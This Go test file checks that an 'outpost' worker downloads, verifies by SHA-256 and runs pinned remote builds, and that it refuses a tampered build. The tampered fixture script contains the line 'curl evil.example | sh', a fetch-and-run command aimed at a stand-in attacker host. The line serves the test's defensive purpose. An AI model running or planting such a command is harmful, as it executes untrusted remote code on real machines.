package worker

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/outpost-sh/outpost/internal/dist"
)

// publishBuilds serves a dist dir over loopback with a good build and a
// tampered one (its check line is of other bytes). Both are shell scripts
// that leave a marker in the data dir (the state dir's grandparent, which
// outlives the session) saying how they were run.
func publishBuilds(t *testing.T, good, tampered string) string {
	t.Helper()
	mux := http.NewServeMux()
	mux.Handle("/dist/", http.StripPrefix("/dist/", distHandler(t, writeBuilds(t, good, tampered))))
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv.URL + "/dist/"
}

// distHandler publishes dir in the /dist/ layout.
func distHandler(t *testing.T, dir string) http.Handler {
	t.Helper()
	h, err := dist.NewHandler(dist.HandlerOptions{Dir: dir, NoSelf: true})
	if err != nil {
		t.Fatal(err)
	}
	return h
}

// writeBuilds writes the dist dir of publishBuilds.
func writeBuilds(t *testing.T, good, tampered string) string {
	t.Helper()
	suffix := dist.HostSuffix()
	if suffix == "" {
		t.Skip("no platform suffix for this machine")
	}
	dir := t.TempDir()
	script := func(id string) []byte {
		return []byte("#!/bin/sh\necho \"" + id + " $(basename \"$0\") $*\" > \"$OUTPOST_STATE_DIR/../../ran.txt\"\n")
	}
	sum := func(b []byte) string {
		h := sha256.Sum256(b)
		return hex.EncodeToString(h[:])
	}
	write := func(name string, b []byte) {
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(dist.BinaryName(good, suffix), script(good))
	write(dist.ChecksumName(good, suffix), []byte(dist.CheckLine(sum(script(good)), suffix)))
	write(dist.BinaryName(tampered, suffix), append(script(tampered), "curl evil.example | sh\n"...))
	write(dist.ChecksumName(tampered, suffix), []byte(dist.CheckLine(sum(script(tampered)), suffix)))
	return dir
}

// TestServesPinnedBuild: a session's pin, or else the worker's default
// pin, makes the worker download, verify and run that build with the
// contract's command `devin-remote serve`.
func TestServesPinnedBuild(t *testing.T) {
	t.Parallel()
	requireUnix(t)
	const good, tampered = "00000000900d", "00000000bad0"
	base := publishBuilds(t, good, tampered)
	self := []string{"sh", "-c", `echo self > "$OUTPOST_STATE_DIR/../../ran.txt"`}

	for _, tc := range []struct {
		name, entryPin, workerPin, want string
	}{
		{"session pin", good, "", good + " devin-remote serve"},
		{"worker pin", "", good, good + " devin-remote serve"},
		{"session pin over worker pin", good, "0123456789ab", good + " devin-remote serve"},
		{"no pin and no latest", "", "", "self"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			fs, c := newFakeServer(t, HostPlatform())
			e := pendingEntry("sess-1")
			if tc.entryPin != "" {
				e.Spec.RemoteBinarySHA = &tc.entryPin
			}
			fs.add(e)
			ctx, _ := testContext(t)
			dataDir := t.TempDir()
			err := Run(ctx, Options{Client: c, Outpost: "dev", Once: true, DataDir: dataDir, Dir: t.TempDir(), Logger: testLogger(t),
				RemoteCommand: self, StaticBaseURL: base, RemoteBinarySHA: tc.workerPin})
			if err != nil {
				t.Fatalf("Run = %v", err)
			}
			ran, err := os.ReadFile(filepath.Join(dataDir, "ran.txt"))
			if err != nil || strings.TrimSpace(string(ran)) != tc.want {
				t.Errorf("remote ran as %q (%v), want %q", ran, err, tc.want)
			}
			if tc.want != "self" {
				// The default cache dir is the data dir's cache.
				if _, err := os.Stat(dist.CachedPath(filepath.Join(dataDir, "cache"), good, dist.HostSuffix())); err != nil {
					t.Errorf("cached build: %v", err)
				}
			}
		})
	}
}

// TestRefusesTamperedBuild: a build whose SHA-256 does not match its check
// line never runs; the claim goes back and the worker stops with an error
// naming the build, its URL and both hashes.
func TestRefusesTamperedBuild(t *testing.T) {
	t.Parallel()
	requireUnix(t)
	const good, tampered = "00000000900d", "00000000bad0"
	base := publishBuilds(t, good, tampered)
	fs, c := newFakeServer(t, HostPlatform())
	e := pendingEntry("sess-1")
	pin := tampered
	e.Spec.RemoteBinarySHA = &pin
	fs.add(e)
	ctx, _ := testContext(t)
	dataDir, cache := t.TempDir(), t.TempDir()
	err := Run(ctx, Options{Client: c, Outpost: "dev", DataDir: dataDir, CacheDir: cache, Dir: t.TempDir(), Logger: testLogger(t),
		RemoteCommand: []string{"sh", "-c", `echo self > "$OUTPOST_STATE_DIR/../../ran.txt"`}, StaticBaseURL: base})
	if !errors.Is(err, errStart) {
		t.Fatalf("Run = %v, want a start error", err)
	}
	for _, want := range []string{tampered, base + dist.BinaryName(tampered, dist.HostSuffix()), "refusing to run it", "SHA-256 ", " says "} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error %q does not say %q", err, want)
		}
	}
	claims, releases := fs.snapshot()
	if len(claims) != 1 || len(releases) != 1 {
		t.Errorf("claims %q, releases %q; want the claim released", claims, releases)
	}
	if _, err := os.Stat(filepath.Join(dataDir, "ran.txt")); !os.IsNotExist(err) {
		t.Errorf("a remote ran: %v", err)
	}
	if _, err := os.Stat(dist.CachedPath(cache, tampered, dist.HostSuffix())); !os.IsNotExist(err) {
		t.Errorf("the tampered build is in the cache: %v", err)
	}
}
